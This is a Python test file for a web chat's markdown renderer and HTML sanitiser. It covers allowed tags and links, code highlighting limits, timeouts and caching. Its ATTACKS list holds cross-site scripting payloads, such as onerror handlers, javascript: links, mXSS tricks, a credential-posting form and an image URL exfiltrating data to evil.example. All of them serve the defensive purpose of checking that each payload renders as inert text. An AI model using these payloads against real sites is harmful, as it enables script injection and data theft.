from __future__ import annotations

import asyncio
import re
import threading
from collections.abc import Iterator
from html import unescape
from html.parser import HTMLParser
from uuid import uuid4

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from channels.webchat import markdown, rendering
from channels.webchat.markdown import HIGHLIGHT_LIMIT, HIGHLIGHTED
from channels.webchat.rendering import MARKDOWN_LIMIT, Renderer, render

ALLOWED = {
    "a": {"href", "title", "target", "rel"},
    "ol": {"start"},
    "pre": {"data-language"},
    "span": {"class"},
    "td": {"align"},
    "th": {"align"},
}
TAGS = set(
    "a blockquote br code del em h1 h2 h3 h4 h5 h6 hr li ol p pre s span strong table tbody td th "
    "thead tr ul".split()
)
HARMLESS = ("http://", "https://", "mailto:")


class Inspector(HTMLParser):
    """Objects to every tag, attribute and address that has no business in a chat."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        given = dict(attrs)
        assert given.keys() <= ALLOWED.get(tag, set()), (tag, given)
        href = given.get("href")
        assert href is None or href.lower().startswith(HARMLESS), href
        if tag == "a":
            assert given["rel"] == "noopener noreferrer nofollow"
            assert given["target"] == "_blank"

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")


def inspect(html: str) -> str:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return html


ATTACKS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=https://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![secret](https://evil.example/?d=secret)",
    '!["onerror=alert(1) x="](https://evil.example/x.png \'a" onerror="alert(1)\')',
    '[a](https://a.example "x\\" onmouseover=\\"alert(1)")',
    "[![x](https://evil.example/x.png)](javascript:alert(1))",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "```python\n'</code></pre><script>alert(1)</script>'\n```",
    "| <img src=x onerror=alert(1)> |\n| :-: |\n| [x](javascript:alert(1)) |",
    'https://evil.example/"onmouseover=alert(1)',
    "https://evil.example/<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "> " * 500 + "<img src=x onerror=alert(1)>",
    "**" * 500 + "<img src=x onerror=alert(1)>",
    "\u202e<script>\u2028alert(1)\u0000</script>",
    "half \ud83d an emoji <script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_becomes_text(attack: str) -> None:
    inspect(render(attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_sanitiser_alone_would_hold(attack: str) -> None:
    from channels.webchat.markdown import _cleaner

    inspect(_cleaner.clean(attack.encode("utf-8", "replace").decode()))


@settings(max_examples=300)
@given(
    st.lists(
        st.sampled_from(ATTACKS) | st.sampled_from(list("[](){}<>!*_~`|#&\"'\\:/= \n\t-")),
        max_size=12,
    )
)
def test_pieces_of_attacks_become_text(pieces: list[str]) -> None:
    inspect(render("".join(pieces)))


def test_common_markdown_looks_right() -> None:
    assert render("**bold** ~~gone~~\nnext") == (
        "<p><strong>bold</strong> <s>gone</s><br>\nnext</p>\n"
    )
    assert '<ol start="3">' in render("3. three")
    assert '<td align="right">1</td>' in render("| a |\n| -: |\n| 1 |")


def test_code_has_its_language_and_colours() -> None:
    html = render("```Python\nprint(1 < 2)\n```")
    assert '<pre data-language="python"><code>' in html
    assert '<span class="nb">print</span>' in html
    assert "&lt;" in html


@pytest.mark.parametrize("language", sorted(HIGHLIGHTED))
def test_every_language_on_the_list_has_colours_to_give(language: str) -> None:
    inspect(render(f"```{language}\nprint 'x' = 1\n```"))


def test_a_language_that_is_not_on_the_list_is_shown_plainly() -> None:
    assert render("```brainfuck\n+<\n```") == (
        '<pre data-language="brainfuck"><code>+&lt;\n</code></pre>\n'
    )


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("see https://a.example/b_c_d.", "https://a.example/b_c_d"),
        ("(https://a.example/x_(y))", "https://a.example/x_(y)"),
        ("https://a.example/?a=1&b=2!", "https://a.example/?a=1&amp;b=2"),
        ("<https://a.example/>", "https://a.example/"),
        ("HTTP://a.example", "HTTP://a.example"),
    ],
)
def test_a_bare_address_becomes_a_link(text: str, address: str) -> None:
    assert f'<a href="{address}"' in render(text)


@pytest.mark.parametrize("text", ["`https://a.example`", "ftp://a.example", "a://b", "https://"])
def test_what_is_no_web_address_stays_text(text: str) -> None:
    assert "<a" not in render(text)


def test_a_remote_image_is_a_link() -> None:
    html = render("![a cat](https://a.example/cat.png)")
    assert "<img" not in html
    assert '<a href="https://a.example/cat.png"' in html
    assert ">a cat</a>" in html


def test_an_image_inside_a_link_is_its_name() -> None:
    html = render("[![cat](https://a.example/cat.png)](https://b.example)")
    assert html.count("<a ") == 1
    assert 'href="https://b.example"' in html


def test_a_very_long_text_is_shown_as_it_is() -> None:
    html = render("**<b>**" + "x" * MARKDOWN_LIMIT)
    assert html.startswith("<pre>**&lt;b&gt;**x")


@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "![",
        "**a",
        "_a*",
        "- a\n",
        "- - ",
        "> ",
        "`",
        "<",
        "https://a ",
        "https://a))",
        "|a|b\n",
    ],
)
def test_long_and_nasty_texts_come_to_an_end(piece: str) -> None:
    inspect(render(piece * (99_000 // len(piece))))


def test_brackets_behind_an_address_come_to_an_end() -> None:
    assert '<a href="https://a"' in render("https://a" + ")" * 99_000 + "..")


async def test_a_line_that_stops_the_parser_is_shown_as_it_is(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def stumble(text: str) -> str:
        raise IndexError(text)

    monkeypatch.setattr(markdown, "render", stumble)
    assert await Renderer().html(uuid4(), "<b>", _later()) == "<pre>&lt;b&gt;</pre>"


def _later() -> float:
    return asyncio.get_running_loop().time() + 60


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("java", '"a ' * 24_000),
        ("make", '"a\\' * 24_000),
        ("lua", "[=" * 24_000),
        ("python", "f'{" * 16_000),
        ("js", "/a" * 24_000),
        ("html", "<a " * 16_000),
    ],
)
def test_only_a_little_of_a_long_code_is_coloured(language: str, code: str) -> None:
    html = render(f"```{language}\n{code}\n```")
    inspect(html)
    coloured = html.rpartition("</span>")[0]
    assert len(re.sub(r"<[^>]*>|&\w+;", "x", coloured)) < 4 * HIGHLIGHT_LIMIT
    plain = unescape(re.sub(r"<[^>]*>", "", html))
    assert plain.split() == code.split(), "nothing of it is left out"


def test_all_code_of_one_text_shares_one_budget() -> None:
    block = f"```python\n{'x = 1  # y' * 700}\n```\n\n"
    first, second, third = (part for part in render(block * 3).split("</pre>")[:3])
    assert "<span" in first
    assert "<span" in second
    assert "<span" not in third


async def test_what_is_not_ready_in_time_is_shown_as_it_is_and_later_as_it_should_be(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    may_end = threading.Event()
    rendered: list[str] = []

    def slow(text: str) -> str:
        may_end.wait(30)
        rendered.append(text)
        return f"<p>{text}</p>"

    monkeypatch.setattr(rendering, "render", slow)
    renderer, message_id = Renderer(), uuid4()
    now = asyncio.get_running_loop().time()
    assert await renderer.html(message_id, "a", now) == "<pre>a</pre>"
    may_end.set()
    assert await renderer.html(message_id, "a", _later()) == "<p>a</p>"
    assert await renderer.html(message_id, "a", now) == "<p>a</p>"
    assert rendered == ["a"]
    renderer.close()
    assert await renderer.html(uuid4(), "```b", _later()) == "<pre>```b</pre>"


def test_a_lexer_reads_no_more_than_the_budget(monkeypatch: pytest.MonkeyPatch) -> None:
    from pygments.lexer import Lexer

    read: list[int] = []
    tokens = Lexer.get_tokens

    def count(self: Lexer, text: str, unfiltered: bool = False) -> Iterator[object]:
        read.append(len(text))
        return iter(tokens(self, text, unfiltered))

    monkeypatch.setattr(Lexer, "get_tokens", count)
    render(("```python\n" + "x = 1\n" * 500 + "```\n\n") * 8)
    assert sum(read) == HIGHLIGHT_LIMIT


def test_code_that_takes_too_long_loses_its_colours(monkeypatch: pytest.MonkeyPatch) -> None:
    ticks = iter(range(100))
    monkeypatch.setattr(markdown, "thread_time", lambda: next(ticks) / 10)
    html = render("```python\na b c d e f g h\n```\n\n```python\nlate\n```")
    assert html.count("<span") == 2
    plain = unescape(re.sub(r"<[^>]*>", "", html))
    assert plain.split() == "a b c d e f g h late".split()


async def test_the_oldest_lines_are_forgotten(monkeypatch: pytest.MonkeyPatch) -> None:
    rendered: list[str] = []

    def count(text: str) -> str:
        rendered.append(text)
        return text

    monkeypatch.setattr(rendering, "render", count)
    monkeypatch.setattr(rendering, "REMEMBERED_LIMIT", 50)
    renderer, first, second = Renderer(), uuid4(), uuid4()
    for message_id in (first, second, second, first):
        await renderer.html(message_id, "x" * 30, _later())
    assert len(rendered) == 3


async def test_a_line_that_waits_when_the_renderer_closes_is_shown_as_it_is(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    may_end = threading.Event()

    def slow(text: str) -> str:
        may_end.wait(30)
        return f"<p>{text}</p>"

    monkeypatch.setattr(rendering, "render", slow)
    renderer = Renderer()
    running, waiting = (
        asyncio.create_task(renderer.html(uuid4(), text, _later())) for text in ("a", "b")
    )
    await asyncio.sleep(0)
    renderer.close()
    assert await waiting == "<pre>b</pre>"
    may_end.set()
    assert await running == "<p>a</p>"
